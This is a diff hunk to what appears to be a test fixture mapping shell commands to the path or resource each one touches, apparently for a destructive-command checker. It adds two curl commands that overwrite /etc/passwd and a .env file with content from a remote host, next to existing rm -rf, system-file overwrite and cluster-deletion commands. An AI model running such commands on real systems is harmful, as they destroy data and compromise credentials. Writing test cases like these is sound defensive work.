@@ -32,6 +32,8 @@ SHOWN = {
     "echo done > log/out.txt; rm -rf /srv/x": "/srv/x",
     "echo x > /etc/hosts": "/etc/hosts",
     "sort -o /etc/passwd x": "/etc/passwd",
+    "curl -o /etc/passwd https://a.example": "/etc/passwd",
+    "curl -o .env https://a.example": ".env",
     "kubectl -n shop delete deploy web": "web",
     "kind delete cluster --name dev": "kind-dev",
     "eksctl delete cluster prod": "prod",
